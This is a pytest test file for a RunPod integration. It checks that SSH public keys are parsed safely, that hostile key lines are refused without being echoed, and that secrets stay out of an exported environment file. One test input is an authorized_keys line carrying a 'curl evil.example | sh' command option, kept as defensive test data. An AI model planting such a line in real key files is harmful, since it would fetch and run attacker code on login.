"""RunPod's conventions under hostile input: PUBLIC_KEY parsed line by line, secrets kept out."""

from __future__ import annotations

import os
from pathlib import Path

import pytest
from steadydancer import runpod

from tests.stand_ins import public_key


def test_plain_keys_of_every_kind_are_accepted_once_each() -> None:
    ed25519 = public_key("laptop")
    rsa = public_key("desktop", "ssh-rsa")
    ecdsa = public_key("ci", "ecdsa-sha2-nistp256")
    parsed = runpod.parse_public_keys(f"{ed25519}\r\n\n  {rsa}  \n{ecdsa}\n{ed25519}\n")
    assert parsed.keys == [ed25519, rsa, ecdsa]
    assert parsed.refused == []


@pytest.mark.parametrize(
    ("line", "reason"),
    [
        (
            'command="curl evil.example | sh" ' + public_key("x"),
            "has options before the key type",
        ),
        ('from="*" ' + public_key("x"), "has options before the key type"),
        ("ssh-dss AAAAB3NzaC1kc3MAAACBAP", "is not a public key of a known type"),
        ("hello world", "is not a public key of a known type"),
        ("ssh-ed25519", "has a ssh-ed25519 type but no key"),
        ("ssh-ed25519 not*base64", "its key is not base64 of an SSH key"),
        (public_key("x", "ssh-rsa").replace("ssh-rsa", "ssh-ed25519", 1), "of another type"),
        (public_key("bell\x07"), "holds a control or line-separator character"),
        (public_key("tab\there"), "holds a control or line-separator character"),
    ],
)
def test_each_hostile_line_is_refused_by_number_without_echoing_it(line: str, reason: str) -> None:
    good = public_key("good")
    parsed = runpod.parse_public_keys(f"{good}\n{line}")
    assert parsed.keys == [good]
    (refusal,) = parsed.refused
    assert refusal.startswith("PUBLIC_KEY line 2 ") and reason in refusal
    assert (line not in refusal or line in runpod.KEY_TYPES) and "evil" not in refusal


def test_an_oversized_value_is_refused_whole() -> None:
    value = (public_key("k") + "\n") * 400
    assert len(value) > runpod.MAX_PUBLIC_KEY_BYTES
    parsed = runpod.parse_public_keys(value)
    assert parsed.keys == []
    assert parsed.refused == [
        f"PUBLIC_KEY is {len(value)} bytes, over the 16384 accepted: give one public key per line"
    ]


def test_ssh_sessions_get_settings_but_no_secret_and_only_root_reads_them(tmp_path: Path) -> None:
    paths = runpod.Paths(environment=tmp_path / "rp_environment", bashrc=tmp_path / ".bashrc")
    env = {
        "RUNPOD_POD_ID": "abc123",
        "RUNPOD_API_KEY": "rpa_secret",
        "RUNPOD_SECRET_DB": "s3cret",
        "HF_TOKEN": "hf_secret",
        "PUBLIC_KEY": public_key("k"),
        "STEADYDANCER_VARIANT": "fp8",
        "PATH": "/opt/venv/bin:/usr/bin",
        "UV_CONSTRAINT": "/opt/steadydancer/pins/constraints.txt",
        "LD_LIBRARY_PATH": "/opt/venv/lib/python3.11/site-packages/nvidia/cudnn/lib",
        "HOME": "/root",
        "PWD": "/opt/ComfyUI",
    }
    paths.environment.write_text("stale\n")
    os.chmod(paths.environment, 0o644)
    runpod.export_environment(paths, env)
    text = paths.environment.read_text()
    assert "export RUNPOD_POD_ID=abc123" in text and "export STEADYDANCER_VARIANT=fp8" in text
    assert "export UV_CONSTRAINT=" in text and "export LD_LIBRARY_PATH=" in text
    assert "HOME=" not in text and "PWD=" not in text
    assert "secret" not in text.lower() and "KEY" not in text
    assert oct(paths.environment.stat().st_mode & 0o777) == "0o600"
    assert f"source {paths.environment}" in paths.bashrc.read_text()
